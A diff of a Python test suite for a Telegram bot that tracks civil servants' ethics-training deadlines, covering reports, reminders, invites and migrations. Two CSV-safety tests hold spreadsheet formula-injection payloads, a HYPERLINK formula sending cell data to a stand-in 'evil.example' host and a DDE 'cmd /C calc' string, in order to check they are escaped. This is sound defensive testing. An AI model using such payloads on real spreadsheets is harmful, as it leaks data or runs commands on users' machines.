@@ -38,18 +38,40 @@ from tests.test_coordinators import _cli
 
 TODAY = date(2026, 11, 23)  # NOW in Almaty, a Monday
 COORDINATOR = 900
-SURNAMES = ["Нұрсұлтанқызы-Бекмұхамбетова", "Константинопольская-Ибрагимова", "Сәрсенбайұлы-Жақсылықов",
-            "Александровский-Тұрсынбеков", "Мұхамеджанова-Шайхысламова", "Преображенский-Қуанышбаев",
-            "Әбдірахманова-Төлеутайқызы", "Красносельская-Есенжолова", "Қожахметов-Ержанұлы",
-            "Воскресенская-Байтұрсынова", "Жұмабаев-Серікбайұлы", "Рождественский-Оразалиев"]
-GIVEN = ["Әйгерім Бауыржанқызы", "Александр Владимирович", "Гүлнәр Серікқызы", "Екатерина Сергеевна",
-         "Нұрлан Қайратұлы", "Дмитрий Константинович", "Ақбота Ерланқызы", "Татьяна Олеговна",
-         "Дәурен Мұратұлы", "Владислав Игоревич"]
+SURNAMES = [
+    "Нұрсұлтанқызы-Бекмұхамбетова",
+    "Константинопольская-Ибрагимова",
+    "Сәрсенбайұлы-Жақсылықов",
+    "Александровский-Тұрсынбеков",
+    "Мұхамеджанова-Шайхысламова",
+    "Преображенский-Қуанышбаев",
+    "Әбдірахманова-Төлеутайқызы",
+    "Красносельская-Есенжолова",
+    "Қожахметов-Ержанұлы",
+    "Воскресенская-Байтұрсынова",
+    "Жұмабаев-Серікбайұлы",
+    "Рождественский-Оразалиев",
+]
+GIVEN = [
+    "Әйгерім Бауыржанқызы",
+    "Александр Владимирович",
+    "Гүлнәр Серікқызы",
+    "Екатерина Сергеевна",
+    "Нұрлан Қайратұлы",
+    "Дмитрий Константинович",
+    "Ақбота Ерланқызы",
+    "Татьяна Олеговна",
+    "Дәурен Мұратұлы",
+    "Владислав Игоревич",
+]
 
 
 def _department(n: int) -> str:
-    kind = ("Қарағанды облысы әкімдігінің мемлекеттік қызметтер және цифрландыру басқармасы" if n % 2
-            else "Департамент государственных услуг и цифровизации акимата Туркестанской области")
+    kind = (
+        "Қарағанды облысы әкімдігінің мемлекеттік қызметтер және цифрландыру басқармасы"
+        if n % 2
+        else "Департамент государственных услуг и цифровизации акимата Туркестанской области"
+    )
     return f"{kind} №{n}"
 
 
@@ -59,8 +81,16 @@ def _ministry(store: Store, departments: int, overdue: int, soon: int) -> list[E
     employees = []
     for n in range(overdue + soon):
         due = TODAY - timedelta(days=1 + n % 200) if n < overdue else TODAY + timedelta(days=1 + n % 80)
-        employees.append(Employee(f"E{n:04d}", f"{SURNAMES[n % 12]} {GIVEN[n // 12 % 10]}", _department(n % departments),
-                                  "бас маман", None, add_years(due, -3).isoformat()))
+        employees.append(
+            Employee(
+                f"E{n:04d}",
+                f"{SURNAMES[n % 12]} {GIVEN[n // 12 % 10]}",
+                _department(n % departments),
+                "бас маман",
+                None,
+                add_years(due, -3).isoformat(),
+            )
+        )
     store.upsert_employees(employees, NOW)
     return employees
 
@@ -70,6 +100,7 @@ def _texts(calls) -> list[str]:
 
 
 # one way out for every text ------------------------------------------------------------------
+
 
 @pytest.mark.parametrize("limit", [10, 50, MessageLimit.MAX_TEXT_LENGTH])
 def test_split_text_keeps_lines_whole_and_every_message_within_the_limit(limit):
@@ -98,20 +129,27 @@ async def test_long_overdue_report_and_digest_all_reach_the_coordinator(bank, tm
         assert t("ru", "overdue_title", count=60) in overdue
 
         report_calls = await coordinator.send("/report")
-        document, = [c for c in report_calls if c.method == "sendDocument"]  # 30 departments: over 3 messages
+        (document,) = [c for c in report_calls if c.method == "sendDocument"]  # 30 departments: over 3 messages
         assert _texts(report_calls) == [] and document.params["caption"].startswith("📎")
         rows = list(csv.DictReader(io.StringIO(document.files["document"].decode("utf-8-sig"))))
         assert {(r["department"], r["servants"], r["overdue"], r["due_soon"]) for r in rows} == {
-            (_department(n), "4", "2", "2") for n in range(30)}
-        photo, = [c for c in report_calls if c.method == "sendPhoto"]
+            (_department(n), "4", "2", "2") for n in range(30)
+        }
+        (photo,) = [c for c in report_calls if c.method == "sendPhoto"]
         assert sum(_png_size(photo.files["photo"])) <= 10_000
 
         async with sending_bot(TOKEN, harness.api.base_url, concurrency=5) as bot:
-            reminders = Reminders(bank, harness.store, ReminderPolicy(), CyclePolicy(),
-                                  harness.application.bot_data["conversation"].coordination, "ru")
+            reminders = Reminders(
+                bank,
+                harness.store,
+                ReminderPolicy(),
+                CyclePolicy(),
+                harness.application.bot_data["conversation"].coordination,
+                "ru",
+            )
             before = len(harness.api.calls)
             sweep = await reminders.sweep(TelegramSender(bot), NOW)
-        digest, = _texts(harness.api.calls[before:])
+        (digest,) = _texts(harness.api.calls[before:])
         assert sweep.sent == 1 and harness.store.db["users"].get(COORDINATOR)["unreachable_since"] is None
         listed = [e for e in employees if e.full_name in digest]
         more = re.fullmatch(r"\+ещё (\d+): /overdue", digest.rsplit("\n", 1)[1])
@@ -130,17 +168,17 @@ async def test_a_report_of_500_departments_comes_as_a_csv_and_a_readable_chart(b
         _ministry(harness.store, departments=500, overdue=500, soon=500)
         calls = await harness.user(COORDINATOR, "en").send("/report")
         assert _texts(calls) == []
-        document, = [c for c in calls if c.method == "sendDocument"]
+        (document,) = [c for c in calls if c.method == "sendDocument"]
         rows = list(csv.reader(io.StringIO(document.files["document"].decode("utf-8-sig"))))
         assert rows[0] == list(REPORT_COLUMNS) and len({r[0] for r in rows[1:]}) == 500
         assert document.params["caption"] == t("en", "list_as_file", rows=500 * len(bank.modules))
-        photo, = [c for c in calls if c.method == "sendPhoto"]
+        (photo,) = [c for c in calls if c.method == "sendPhoto"]
         width, height = _png_size(photo.files["photo"])
         assert width + height <= 10_000 and max(width, height) <= 20 * min(width, height)
         assert t("en", "chart_lowest", shown=CHART_BARS, total=500) in photo.params["caption"]
 
         overdue = await harness.user(COORDINATOR, "en").send("/overdue")
-        document, = [c for c in overdue if c.method == "sendDocument"]
+        (document,) = [c for c in overdue if c.method == "sendDocument"]
         rows = list(csv.reader(io.StringIO(document.files["document"].decode("utf-8-sig"))))
         assert rows[0] == list(OVERDUE_COLUMNS) and len(rows) == 501
 
@@ -152,10 +190,12 @@ def test_the_stand_in_refuses_what_telegram_refuses(tmp_path):
         errors = []
         try:
             async with sending_bot(TOKEN, api.base_url, concurrency=1) as bot:
-                for call in (lambda: bot.send_message(1, "x" * (MessageLimit.MAX_TEXT_LENGTH + 1)),
-                             lambda: bot.send_message(2, "hello"),
-                             lambda: bot.send_document(2, b"a,b\n", filename="x.csv"),
-                             lambda: bot.set_my_commands([("start", "menu")], scope={"type": "chat", "chat_id": 2})):
+                for call in (
+                    lambda: bot.send_message(1, "x" * (MessageLimit.MAX_TEXT_LENGTH + 1)),
+                    lambda: bot.send_message(2, "hello"),
+                    lambda: bot.send_document(2, b"a,b\n", filename="x.csv"),
+                    lambda: bot.set_my_commands([("start", "menu")], scope={"type": "chat", "chat_id": 2}),
+                ):
                     try:
                         await call()
                     except Exception as error:  # noqa: BLE001 (collecting what the Bot API answered)
@@ -164,10 +204,12 @@ def test_the_stand_in_refuses_what_telegram_refuses(tmp_path):
         finally:
             api.stop()
         return errors
+
     assert asyncio.run(scenario()) == ["Message is too long", "Chat not found", "Chat not found", "Chat not found"]
 
 
 # nobody drops out ------------------------------------------------------------------------------
+
 
 async def test_a_servant_who_blocked_the_bot_stays_in_overdue_marked_until_they_write_again(bank, tmp_path, clock):
     async for harness in running_bot(bank, tmp_path, clock, None, coordinator_ids=frozenset({COORDINATOR})):
@@ -216,6 +258,7 @@ async def test_coordinators_are_not_servants_and_self_registered_users_are_marke
 
 # a bad setting does not stop the bot ---------------------------------------------------------
 
+
 async def test_an_unknown_coordinator_id_neither_stops_the_start_nor_the_other_menus(bank, tmp_path, clock, caplog):
     api = BotApiStub().start()
     api.know(COORDINATOR, 952)
@@ -224,15 +267,21 @@ async def test_an_unknown_coordinator_id_neither_stops_the_start_nor_the_other_m
     store.add_coordinator(952, [], NOW, all_departments=True)
     application = await start_bot(api, Conversation(bank, store, "ru", clock, coordinator_ids=frozenset({COORDINATOR})))
     try:
-        scoped = {c.params["scope"]["chat_id"] for c in api.calls if c.method == "setMyCommands" and c.params.get("scope")}
+        scoped = {
+            c.params["scope"]["chat_id"] for c in api.calls if c.method == "setMyCommands" and c.params.get("scope")
+        }
         assert {COORDINATOR, 952} <= scoped  # 951 (sorted between them) did not stop 952
         assert "coordinator menu for 951 not changed" in caplog.text
         assert _texts(await TelegramUser(api, 803, "en", application=application).send("/start"))  # the bot serves
         api.know(951)  # they press Start: the next sync gives them the menu
         before = len(api.calls)
         application.job_queue.run_once(sync_coordinator_menus, 0)
-        calls = (await asyncio.to_thread(api.wait_for, lambda calls: sum(
-            c.method == "setMyCommands" for c in calls[before:]) == len(LANGUAGES) + 1))[before:]
+        calls = (
+            await asyncio.to_thread(
+                api.wait_for,
+                lambda calls: sum(c.method == "setMyCommands" for c in calls[before:]) == len(LANGUAGES) + 1,
+            )
+        )[before:]
         assert {c.params["scope"]["chat_id"] for c in calls} == {951}
     finally:
         await stop_bot(application)
@@ -241,6 +290,7 @@ async def test_an_unknown_coordinator_id_neither_stops_the_start_nor_the_other_m
 
 
 # files that are safe to open -------------------------------------------------------------------
+
 
 async def test_a_formula_name_is_plain_text_in_the_csv_and_raw_in_json(bank, tmp_path, clock):
     formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -254,11 +304,13 @@ async def test_a_formula_name_is_plain_text_in_the_csv_and_raw_in_json(bank, tmp
             session = harness.store.start_session(telegram_id, module.id, module.track, Plan.draw(module, 1), NOW)
             harness.store.complete(session.id, 10, len(module.questions), True, NOW)
         calls = await harness.user(COORDINATOR, "en").send("/export")
-        document, = [c for c in calls if c.method == "sendDocument"]
+        (document,) = [c for c in calls if c.method == "sendDocument"]
         assert document.params["caption"] == t("en", "export_done", rows="2 rows")
         rows = list(csv.DictReader(io.StringIO(document.files["document"].decode("utf-8-sig"))))
         assert [(r["employee_id"], r["full_name"], r["department"], r["telegram_first_name"]) for r in rows] == [
-            ("'@E1", "'-Ерлан", "'+Akimat", "Asel"), ("", "", "", "'" + formula)]
+            ("'@E1", "'-Ерлан", "'+Akimat", "Asel"),
+            ("", "", "", "'" + formula),
+        ]
         assert list(rows[0])[-1] == "telegram_first_name"
     lines = _cli("export", "--format", "jsonl", db=tmp_path / "bot.db").stdout.splitlines()
     assert [json.loads(line)["telegram_first_name"] for line in lines] == ["Asel", formula]
@@ -287,18 +339,25 @@ def test_output_files_are_private_atomic_and_never_overwritten_by_accident(tmp_p
 
 
 async def test_an_export_too_big_for_telegram_points_to_the_command_line(bank, tmp_path, clock, monkeypatch):
-    monkeypatch.setattr(telegram_app, "FileSizeLimit", types.SimpleNamespace(
-        FILESIZE_UPLOAD=10, PHOTOSIZE_UPLOAD=FileSizeLimit.PHOTOSIZE_UPLOAD))  # a log past the limit
+    monkeypatch.setattr(
+        telegram_app,
+        "FileSizeLimit",
+        types.SimpleNamespace(FILESIZE_UPLOAD=10, PHOTOSIZE_UPLOAD=FileSizeLimit.PHOTOSIZE_UPLOAD),
+    )  # a log past the limit
     monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
     async for harness in running_bot(bank, tmp_path, clock, None, coordinator_ids=frozenset({COORDINATOR})):
         calls = await harness.user(COORDINATOR, "en").send("/export 2026-01-01")
         assert [c.method for c in calls] == ["sendMessage"]
-        assert calls[0].params["text"] == t("en", "export_too_big", command="python -m bot export --since 2026-01-01 "
-                                                                            "--output completions_2026-01-01.csv")
+        assert calls[0].params["text"] == t(
+            "en",
+            "export_too_big",
+            command="python -m bot export --since 2026-01-01 --output completions_2026-01-01.csv",
+        )
     assert not list(tmp_path.glob("completions-*"))
 
 
 # private chats only, and scoped ------------------------------------------------------------------
+
 
 async def test_coordinator_commands_in_a_group_get_one_line_and_no_records(bank, tmp_path, clock):
     async for harness in running_bot(bank, tmp_path, clock, None, coordinator_ids=frozenset({COORDINATOR})):
@@ -307,7 +366,8 @@ async def test_coordinator_commands_in_a_group_get_one_line_and_no_records(bank,
         for command in ("/overdue", "/export", "/report", "/start", "/overdue@ethics_test_bot"):
             calls = await in_group.send(command)
             assert [(c.method, c.params["chat_id"], c.params["text"]) for c in calls] == [
-                ("sendMessage", -100123, t("en", "private_only"))]
+                ("sendMessage", -100123, t("en", "private_only"))
+            ]
         assert await in_group.send("/overdue@other_bot") == []
         assert await in_group.send("hello everyone") == []
         pressed = await in_group.press("prog")
@@ -332,7 +392,10 @@ def test_coordinator_departments_are_named_or_explicitly_all(tmp_path):
         result = _cli("coordinator", "add", "--telegram-id", "5", *args, db=db)
         assert result.returncode == 2 and result.stderr.startswith("error: ") and len(result.stderr.splitlines()) == 1
     assert _cli("coordinator", "add", "--telegram-id", "5", "--all-departments", db=db).stdout == "5\tall departments\n"
-    assert _cli("coordinator", "add", "--telegram-id", "6", "--department", "Akimat", db=db).stdout.splitlines()[1] == "6\tAkimat"
+    assert (
+        _cli("coordinator", "add", "--telegram-id", "6", "--department", "Akimat", db=db).stdout.splitlines()[1]
+        == "6\tAkimat"
+    )
     store = Store(db)
     assert store.coordinators() == {5: None, 6: ("Akimat",)}
 
@@ -344,8 +407,9 @@ def test_roster_invites_all_needs_reissue(tmp_path):
 
 async def test_expired_reused_and_second_invite_codes_in_telegram(bank, tmp_path, clock):
     async for harness in running_bot(bank, tmp_path, clock, None):
-        harness.store.upsert_employees([Employee(f"E{n}", f"Сотрудник {n}", "Akimat", "x", None, None)
-                                        for n in (1, 2, 3)], NOW)
+        harness.store.upsert_employees(
+            [Employee(f"E{n}", f"Сотрудник {n}", "Akimat", "x", None, None) for n in (1, 2, 3)], NOW
+        )
         expired = harness.store.invite("E1", NOW - timedelta(days=31), 30).code
         used, second = harness.store.invite("E2", NOW, 30).code, harness.store.invite("E3", NOW, 30).code
         first_text = lambda calls: _texts(calls)[0]  # noqa: E731
@@ -353,11 +417,13 @@ async def test_expired_reused_and_second_invite_codes_in_telegram(bank, tmp_path
         assert first_text(await harness.user(807, "ru").send(f"/start {used}")).startswith("Привязано")
         assert first_text(await harness.user(808, "ru").send(f"/start {used}")) == t("ru", "invite_invalid")
         assert first_text(await harness.user(807, "ru").send(f"/start {second}")) == t(
-            "ru", "invite_account_linked", name="Сотрудник 2", department="Akimat")
+            "ru", "invite_account_linked", name="Сотрудник 2", department="Akimat"
+        )
         assert harness.store.employee_of(807).employee_id == "E2" and harness.store.employee_of(806) is None
 
 
 # older databases ------------------------------------------------------------------------------
+
 
 def test_older_databases_are_carried_over(tmp_path):
     store = Store(tmp_path / "old.db")
@@ -365,14 +431,21 @@ def test_older_databases_are_carried_over(tmp_path):
     store.touch_user(1, "Blocked", NOW)
     store.touch_user(2, "Left", NOW)
     db.execute("UPDATE users SET active = 0, blocked_at = ? WHERE telegram_id IN (1, 2)", [NOW.isoformat()])
-    db.execute("INSERT INTO reminders (telegram_id, kind, due_on, stage, status, sent_at) "
-               "VALUES (1, 'cycle', '2026-12-01', 'd7', 'blocked', ?)", [NOW.isoformat()])
+    db.execute(
+        "INSERT INTO reminders (telegram_id, kind, due_on, stage, status, sent_at) "
+        "VALUES (1, 'cycle', '2026-12-01', 'd7', 'blocked', ?)",
+        [NOW.isoformat()],
+    )
     db.execute("INSERT INTO coordinators (telegram_id, departments, added_at) VALUES (7, '', ?)", [NOW.isoformat()])
     store.upsert_employees([Employee("E1", "A", "Akimat", "x", None, None)], NOW)
     db.execute("INSERT INTO invites (code, employee_id, created_at) VALUES ('old', 'E1', ?)", [NOW.isoformat()])
     db.execute("DROP VIEW servant_status")
     db.execute("DROP VIEW completions_report")
-    for table, column in (("users", "unreachable_since"), ("invites", "expires_at"), ("coordinators", "all_departments")):
+    for table, column in (
+        ("users", "unreachable_since"),
+        ("invites", "expires_at"),
+        ("coordinators", "all_departments"),
+    ):
         db.execute(f"ALTER TABLE {table} DROP COLUMN {column}")  # as the schema before migration 4 had them
     with store.transaction():
         v4_reachability_invites_scope(db)
@@ -411,9 +484,14 @@ def test_report_csv_on_the_command_line_has_the_bots_columns_and_safe_cells(tmp_
     store = Store(tmp_path / "bot.db")
     store.upsert_employees([Employee("E1", "=cmd|' /C calc'!A0", "@Akimat", "x", None, "2020-01-01")], NOW)
     store.close()
-    overdue = list(csv.reader(io.StringIO(_cli("report", "--format", "csv", "--overdue", db=tmp_path / "bot.db")
-                                          .stdout.lstrip("\ufeff"))))
+    overdue = list(
+        csv.reader(
+            io.StringIO(_cli("report", "--format", "csv", "--overdue", db=tmp_path / "bot.db").stdout.lstrip("\ufeff"))
+        )
+    )
     assert overdue[0] == list(OVERDUE_COLUMNS)
     assert overdue[1][:3] == ["E1", "'=cmd|' /C calc'!A0", "'@Akimat"] and overdue[1][-1] == "1"
-    report = list(csv.reader(io.StringIO(_cli("report", "--format", "csv", db=tmp_path / "bot.db").stdout.lstrip("\ufeff"))))
+    report = list(
+        csv.reader(io.StringIO(_cli("report", "--format", "csv", db=tmp_path / "bot.db").stdout.lstrip("\ufeff")))
+    )
     assert report[0] == list(REPORT_COLUMNS) and {r[0] for r in report[1:]} == {"'@Akimat"}
